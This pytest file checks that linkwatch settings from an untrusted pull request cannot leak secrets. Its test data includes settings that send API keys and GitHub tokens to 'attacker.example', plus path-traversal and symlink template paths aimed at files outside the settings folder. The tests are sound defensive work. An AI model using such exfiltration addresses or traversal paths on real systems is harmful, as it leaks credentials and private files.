"""A settings file may be a stranger's, as in a pull request: it sends no secret anywhere and reads no other file."""

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from acceptance.command import KEY, environment, linkwatch, write_list
from acceptance.youtube_servers import AVAILABLE, youtube_server
from integration.notifications.webhook import Webhook
from integration.sources.repository import Repository

from linkwatch.errors import SettingsError
from linkwatch.github_action.base_settings import settings_environment
from linkwatch.github_action.runner import Runner
from linkwatch.notifications.urls import NotSentError, expand_variables
from linkwatch.notifications.user_templates import read_templates
from linkwatch.settings import load_settings
from linkwatch.settings.load import KEYS
from linkwatch.store.outbox import Message, Tone

TOKEN = "dashboard-t0ken-of-this-test"
SECRETS = {
    "YOUTUBE_API_KEY": KEY,
    "LINKWATCH_DASHBOARD_TOKEN": TOKEN,
    "LINKWATCH_DATABASE_URL": "postgresql://me:passw0rd@db.example/x",
    "AWS_SECRET_ACCESS_KEY": "aws-secret",
    "GITHUB_TOKEN": "ghs_secret",
}


@pytest.mark.parametrize("name", sorted(key.name for key in KEYS.values() if not key.in_file))
@pytest.mark.parametrize("file", ["linkwatch.toml", "pyproject.toml"])
def test_what_a_secret_is_sent_to_is_never_in_a_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, file: str
) -> None:
    monkeypatch.chdir(tmp_path)
    table = "[tool.linkwatch]\n" if file == "pyproject.toml" else ""
    Path(file).write_text(f'{table}{name} = "http://attacker.example/"\n')
    with pytest.raises(SettingsError, match=r"never from a file") as caught:
        load_settings(environ={})
    assert "attacker" not in caught.value.message


@pytest.mark.parametrize("file", ["linkwatch.toml", "pyproject.toml"])
def test_the_key_goes_to_no_host_that_a_file_names(tmp_path: Path, file: str) -> None:
    write_list(tmp_path, AVAILABLE)
    table = "[tool.linkwatch]\n" if file == "pyproject.toml" else ""
    with youtube_server() as attacker:
        (tmp_path / file).write_text(f'{table}data_api_url = "{attacker.url}"\n')
        ran = linkwatch("check", cwd=tmp_path, env=environment())
    assert ran.code == 2
    assert "$LINKWATCH_DATA_API_URL only, never from a file" in ran.err


@pytest.mark.parametrize(
    "written", ["${name}", "${{{name}}}", "json://attacker.example/${name}", "$LINKWATCH_A${name}"]
)
@pytest.mark.parametrize("name", SECRETS)
@pytest.mark.parametrize("allowed", ["", "YOUTUBE_API_KEY, LINKWATCH_DASHBOARD_TOKEN,LINKWATCH_DATABASE_URL"])
def test_an_address_takes_no_variable_that_is_a_secret(written: str, name: str, allowed: str) -> None:
    environ = SECRETS | {"LINKWATCH_ALLOW_ENV": allowed, "LINKWATCH_A": "a"}
    with pytest.raises(NotSentError) as refused:
        expand_variables(written.format(name=name), environ)
    assert f"${name} " in refused.value.why
    assert not any(secret in refused.value.why for secret in SECRETS.values())


def test_what_may_stand_in_an_address_is_ours_or_listed() -> None:
    environ = {"LINKWATCH_CHAT": "chat.example", "TEAM": "team", "LINKWATCH_ALLOW_ENV": "OTHER,TEAM"}
    assert expand_variables("json://$LINKWATCH_CHAT/$TEAM", environ) == "json://chat.example/team"
    with pytest.raises(NotSentError, match="OTHER is not set"):
        expand_variables("$OTHER", environ)


@pytest.mark.parametrize(
    "setting", ['ping_url = "http://{place}/$YOUTUBE_API_KEY"', '[[notify]]\nurl = "json://{place}/$YOUTUBE_API_KEY"']
)
def test_a_check_sends_the_key_to_nobody(tmp_path: Path, setting: str) -> None:
    write_list(tmp_path, AVAILABLE)
    with Webhook() as hook, youtube_server() as server:
        (tmp_path / "linkwatch.toml").write_text("allow_private = true\n" + setting.format(place=hook.place))
        ran = linkwatch("check", cwd=tmp_path, env=environment(server))
        assert hook.paths == []
    assert ran.code == 0
    assert "$YOUTUBE_API_KEY is never put into addresses" in ran.err


OUTSIDE: dict[str, Callable[[Path], str]] = {
    "absolute": lambda folder: str(folder / "outside.txt"),
    "parent": lambda folder: "../outside.txt",
    "inner parent": lambda folder: "templates/../../outside.txt",
    "link": lambda folder: _link(folder / "settings" / "link.txt", folder / "outside.txt"),
    "link of a folder": lambda folder: f"{_link(folder / 'settings' / 'up', folder)}/outside.txt",
    "pipe": lambda folder: _link(folder / "settings" / "device", Path("/dev/stdin")),
}


def _link(link: Path, target: Path) -> str:
    link.symlink_to(target)
    return link.name


@pytest.mark.parametrize("name", OUTSIDE)
def test_a_template_lies_beside_the_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    folder = tmp_path / "settings"
    folder.mkdir()
    (tmp_path / "outside.txt").write_text("{{ a secret file }}")
    monkeypatch.chdir(folder)
    template = OUTSIDE[name](tmp_path)
    (folder / "linkwatch.toml").write_text(f'[[notify]]\nurl = "json://a"\ntemplate = "{template}"\n')
    with pytest.raises(SettingsError, match=r"linkwatch\.toml:[13]: template") as caught:
        read_templates(load_settings(environ={}).notify, folder)
    assert "a secret file" not in caught.value.message


# The GitHub Action on a pull request.


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repository:
    """The base has the owner's settings; the work tree has those of a stranger's branch."""
    repository = Repository(tmp_path / "checkout")
    repository.write("linkwatch.toml", 'lists = ["base.md"]', "[[notify]]", 'url = "json://owner.example"')
    repository.write("lists/pyproject.toml", "[tool.linkwatch]", 'lists = ["inner.md"]')
    base = repository.commit()
    repository.write("linkwatch.toml", 'lists = ["branch.md"]', 'ping_url = "https://attacker.example/"')
    repository.write("lists/pyproject.toml", "[tool.linkwatch]", 'lists = ["branch.md"]')
    repository.write("lists/linkwatch.toml", 'lists = ["branch.md"]')
    repository.commit()
    monkeypatch.chdir(repository.folder)
    repository.write("../event.json", f'{{"pull_request": {{"base": {{"sha": "{base}"}}}}}}')
    return repository


def _runner(repository: Repository, event: str = "pull_request", payload: str = "event.json") -> Runner:
    temp = repository.folder.parent
    return Runner({"GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(temp / payload), "RUNNER_TEMP": str(temp)})


@pytest.mark.parametrize("event", ["pull_request", "pull_request_target", "pull_request_review"])
def test_a_pull_request_is_checked_with_the_settings_of_its_base(repository: Repository, event: str) -> None:
    settings = load_settings(environ=settings_environment(_runner(repository, event)))
    assert (settings.lists, settings.notify, settings.ping_url) == (("base.md",), (), None)


def test_of_a_folder_of_the_repository_too(repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repository.folder / "lists")
    assert load_settings(environ=settings_environment(_runner(repository))).lists == ("inner.md",)


def test_without_a_base_the_settings_are_the_defaults(
    repository: Repository, capfd: pytest.CaptureFixture[str]
) -> None:
    repository.write("../unknown.json", f'{{"pull_request": {{"base": {{"sha": "{"1" * 40}"}}}}}}')
    settings = load_settings(environ=settings_environment(_runner(repository, payload="unknown.json")))
    assert settings.lists == ()
    assert "the default settings are used" in capfd.readouterr().out


def test_a_shallow_clone_gets_the_base(tmp_path: Path, repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    repository.git("config", "uploadpack.allowAnySHA1InWant", "true")
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", "--depth=1", f"file://{repository.folder}", str(clone)], check=True)
    monkeypatch.chdir(clone)
    assert load_settings(environ=settings_environment(_runner(repository))).lists == ("base.md",)


def test_other_events_take_the_settings_that_are_checked_out(repository: Repository) -> None:
    repository.write("../push.json", '{"repository": {"default_branch": "main"}}')
    assert settings_environment(_runner(repository, "push", "push.json")) == {}


def test_a_message_is_sent_to_nobody_whose_address_has_a_secret() -> None:
    from linkwatch.notifications.apprise_transport import apprise_delivery  # noqa: PLC0415  # it loads slowly
    from linkwatch.settings import Notify  # noqa: PLC0415

    target = Notify(name="a", url="json://attacker.example/$GITHUB_TOKEN", place="linkwatch.toml:1")
    with pytest.raises(NotSentError, match="may not stand in an address"):
        apprise_delivery(SECRETS, allow_private=False)(target, Message("1", "a", Tone.INFO, "title", "body"))
